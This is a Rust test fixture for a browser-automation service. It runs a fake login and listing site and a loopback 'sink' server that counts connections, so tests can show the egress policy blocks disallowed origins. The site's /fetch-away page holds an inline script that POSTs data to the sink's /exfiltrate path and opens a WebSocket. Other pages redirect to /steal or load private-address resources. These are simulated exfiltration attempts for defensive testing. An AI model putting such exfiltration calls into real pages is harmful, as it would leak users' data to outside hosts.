//! The browser engine against real Chromium through chromedriver, with a fake
//! site and a disallowed "sink" server, both real HTTP on loopback.
//!
//! The site is declared as `https://www.example.com` and reached through the
//! deployment rewrite `https://www.example.com` → `http://127.0.0.1:<port>`,
//! as a test double would be. The sink stands for every origin the policy
//! refuses; it counts the connections it accepts, so a test can prove that
//! nothing reached it. Each test has its own service (and so its own process
//! marker), so counting live browser processes is exact even while other
//! tests run.

mod demo;
mod egress;
mod lifecycle;
mod profiles;
mod runs;
mod secrets;
mod serve;
mod session;

use axum::Router;
use axum::extract::{Form, Query, State};
use axum::http::{HeaderMap, StatusCode, header};
use axum::response::{Html, IntoResponse, Redirect, Response};
use axum::routing::{get, post};
use pdpp_host::browser::{
    BrowserConfig, BrowserEgressPolicy, BrowserService, BrowserSession, CancellationToken, Origin, SessionSpec,
};
use pdpp_host::egress::EgressConfig;
use std::collections::HashMap;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::{Duration, Instant};

/// The origin the connector declares for the fake site.
pub const SITE: &str = "https://www.example.com";

/// A generous deadline for one step: the machine is shared, and a deadline
/// is not what these tests measure.
pub fn soon() -> Instant {
    Instant::now() + Duration::from_secs(60)
}

/// A server the policy refuses; it counts every connection it accepts.
pub struct Sink {
    pub port: u16,
    connections: Arc<AtomicUsize>,
}

impl Sink {
    pub async fn start() -> Sink {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let port = listener.local_addr().unwrap().port();
        let connections = Arc::new(AtomicUsize::new(0));
        let count = connections.clone();
        tokio::spawn(async move {
            while let Ok((mut sock, _)) = listener.accept().await {
                count.fetch_add(1, Ordering::SeqCst);
                tokio::spawn(async move {
                    use tokio::io::AsyncWriteExt;
                    let _ = sock
                        .write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 6\r\n\r\nstolen")
                        .await;
                });
            }
        });
        Sink { port, connections }
    }

    /// Connections the sink accepted.
    pub fn connections(&self) -> usize {
        self.connections.load(Ordering::SeqCst)
    }

    pub fn origin(&self) -> String {
        format!("http://127.0.0.1:{}", self.port)
    }
}

/// The fake site: a login form, a paged listing, a cookie, a token page,
/// and pages that try to reach the sink or a private address.
pub struct Site {
    pub port: u16,
    /// Listing pages served.
    pub listings: Arc<AtomicUsize>,
}

#[derive(Clone)]
struct SiteState {
    sink: u16,
    listings: Arc<AtomicUsize>,
}

const PAGE_SIZE: usize = 3;
const PAGES: usize = 3;

fn page(title: &str, body: &str) -> Html<String> {
    Html(format!(
        "<!doctype html><html><head><title>{title}</title></head><body>{body}</body></html>"
    ))
}

async fn form() -> Html<String> {
    page(
        "Sign in",
        r#"<form id="login" action="/login" method="post">
             <input id="user" name="user" type="text">
             <input id="pass" name="pass" type="password">
             <input id="prefilled" type="password" value="page-prefilled-pw">
             <input id="otp" name="otp" type="text">
             <select id="plan" name="plan"><option value="free">Free</option><option value="pro &quot;plus&quot;">Pro</option></select>
             <div id="note" contenteditable="true">note</div>
             <button id="submit" type="submit">Sign in</button>
           </form>"#,
    )
}

async fn form_get() -> Html<String> {
    page(
        "Sign in (GET)",
        r#"<form id="login" action="/landing" method="get">
             <input id="user" name="user" type="text">
             <input id="pass" name="pass" type="password">
             <button id="submit" type="submit">Sign in</button>
           </form>"#,
    )
}

async fn landing() -> Html<String> {
    page("Landing", r#"<p id="landed">landed</p>"#)
}

async fn login(Form(f): Form<HashMap<String, String>>) -> Html<String> {
    let user = f.get("user").cloned().unwrap_or_default();
    let plan = f.get("plan").cloned().unwrap_or_default();
    // The site checks the password but never shows it.
    let ok = f.get("pass").is_some_and(|p| p == "correct horse battery");
    page(
        "Welcome",
        &format!(
            r#"<p id="welcome">{}</p><p id="plan">{plan}</p>"#,
            if ok {
                format!("Welcome {user}")
            } else {
                "Wrong password".into()
            }
        ),
    )
}

async fn items(
    State(s): State<SiteState>,
    Query(q): Query<HashMap<String, String>>,
    headers: HeaderMap,
) -> Html<String> {
    s.listings.fetch_add(1, Ordering::SeqCst);
    let n: usize = q.get("page").and_then(|p| p.parse().ok()).unwrap_or(1);
    // An absolute link to where the browser really is (the rewrite target).
    let host = headers.get(header::HOST).and_then(|h| h.to_str().ok()).unwrap_or("");
    let mut body =
        format!(r#"<h1 id="page-{n}">Page {n}</h1><a id="self" href="http://{host}/items?page={n}">here</a><ul>"#);
    for i in 0..PAGE_SIZE {
        let id = (n - 1) * PAGE_SIZE + i + 1;
        body.push_str(&format!(r#"<li class="item" data-id="item-{id}">Item {id}</li>"#));
    }
    body.push_str("</ul>");
    if n < PAGES {
        body.push_str(&format!(r#"<a id="next" href="/items?page={}">Next</a>"#, n + 1));
    }
    page(&format!("Items {n}"), &body)
}

async fn set_cookie(Query(q): Query<HashMap<String, String>>) -> Response {
    let value = q.get("sid").cloned().unwrap_or_default();
    (
        [(
            header::SET_COOKIE,
            format!("sid={value}; Max-Age=86400; Path=/; HttpOnly"),
        )],
        page("Cookie set", r#"<p id="set">set</p>"#),
    )
        .into_response()
}

async fn whoami(headers: HeaderMap) -> Html<String> {
    let sid = headers
        .get(header::COOKIE)
        .and_then(|c| c.to_str().ok())
        .and_then(|c| c.split("; ").find_map(|kv| kv.strip_prefix("sid=")))
        .unwrap_or("anonymous")
        .to_owned();
    page("Who", &format!(r#"<p id="who">{sid}</p>"#))
}

async fn token() -> Html<String> {
    page(
        "Token",
        r#"<p>Copy your token now.</p><code id="token">tok_made_for_the_owner_5150</code>
           <clipboard-copy id="copy" value="tok_made_for_the_owner_5150"></clipboard-copy>"#,
    )
}

async fn redirect_away(State(s): State<SiteState>) -> Redirect {
    Redirect::to(&format!("http://127.0.0.1:{}/steal", s.sink))
}

async fn fetch_away(State(s): State<SiteState>) -> Html<String> {
    page(
        "Fetch",
        &format!(
            r#"<p id="status">pending</p><p id="ws">pending</p><script>
                 fetch("http://127.0.0.1:{port}/exfiltrate", {{method: "POST", body: "data"}})
                   .then(() => "reached").catch(() => "blocked")
                   .then(r => {{ const p = document.getElementById("status"); p.textContent = r; p.className = "done"; }});
                 const ws = new WebSocket("ws://127.0.0.1:{port}/socket");
                 ws.onopen = () => {{ const p = document.getElementById("ws"); p.textContent = "reached"; p.className = "done"; }};
                 ws.onerror = () => {{ const p = document.getElementById("ws"); p.textContent = "blocked"; p.className = "done"; }};
               </script>"#,
            port = s.sink
        ),
    )
}

async fn frame_away(State(s): State<SiteState>) -> Html<String> {
    page(
        "Frame",
        &format!(
            r#"<p id="outer">outer</p><iframe id="frame" src="http://127.0.0.1:{}/frame"></iframe>"#,
            s.sink
        ),
    )
}

async fn private_resources(State(s): State<SiteState>) -> Html<String> {
    // `localhost` and 10.255.255.1 are declared origins in the test's policy;
    // only the address check can stop them.
    page(
        "Private",
        &format!(
            r#"<p id="outer">outer</p>
               <img id="lo" src="http://localhost:{}/pixel.png">
               <img id="ten" src="http://10.255.255.1/pixel.png">"#,
            s.sink
        ),
    )
}

impl Site {
    pub async fn start(sink: &Sink) -> Site {
        let listings = Arc::new(AtomicUsize::new(0));
        let app = Router::new()
            .route("/form", get(form))
            .route("/form-get", get(form_get))
            .route("/landing", get(landing))
            .route("/login", post(login))
            .route("/items", get(items))
            .route("/cookie", get(set_cookie))
            .route("/whoami", get(whoami))
            .route("/token", get(token))
            .route("/redirect-away", get(redirect_away))
            .route("/fetch-away", get(fetch_away))
            .route("/frame-away", get(frame_away))
            .route("/private", get(private_resources))
            .fallback(|| async { StatusCode::NOT_FOUND })
            .with_state(SiteState {
                sink: sink.port,
                listings: listings.clone(),
            });
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let port = listener.local_addr().unwrap().port();
        tokio::spawn(async move { axum::serve(listener, app).await });
        Site { port, listings }
    }

    /// The deployment's egress settings: the site's declared origin is
    /// rewritten to its loopback address (a test double).
    pub fn egress(&self) -> Arc<EgressConfig> {
        Arc::new(EgressConfig {
            rewrites: vec![(
                Origin::parse(SITE).unwrap(),
                Origin::parse(&format!("http://127.0.0.1:{}", self.port)).unwrap(),
            )],
            allow_private_addresses: false,
            allow_loopback_for_rewrites: true,
        })
    }

    /// A policy that allows the site (and `extra` origins) and nothing else.
    pub fn policy(&self, extra: &[&str]) -> Arc<dyn BrowserEgressPolicy> {
        let mut allowed = vec![Origin::parse(SITE).unwrap()];
        allowed.extend(extra.iter().map(|o| Origin::parse(o).unwrap()));
        Arc::new(pdpp_host::egress::EgressPolicy::new(
            pdpp_host::egress::Allowlist::new(allowed),
            self.egress(),
        ))
    }
}

/// A fresh browser service for one test.
pub fn service(max_browsers: usize) -> BrowserService {
    BrowserService::new(BrowserConfig {
        max_browsers,
        ..BrowserConfig::default()
    })
    .unwrap()
}

/// The site, the sink and a fresh service (two browsers at most).
pub struct Fixture {
    pub sink: Sink,
    pub site: Site,
    pub service: BrowserService,
}

impl Fixture {
    pub async fn new() -> Fixture {
        let sink = Sink::start().await;
        let site = Site::start(&sink).await;
        Fixture {
            sink,
            site,
            service: service(2),
        }
    }

    pub async fn session(&self, extra_origins: &[&str]) -> BrowserSession {
        self.service
            .start(
                SessionSpec {
                    policy: self.site.policy(extra_origins),
                    profile: None,
                },
                soon(),
                &CancellationToken::new(),
            )
            .await
            .unwrap()
    }
}

/// Poll `condition` until it holds (or give up after a long while, which
/// fails the test). Used where teardown completes on another task.
pub async fn eventually(what: &str, mut condition: impl FnMut() -> bool) {
    for _ in 0..600 {
        if condition() {
            return;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    panic!("never happened: {what}");
}
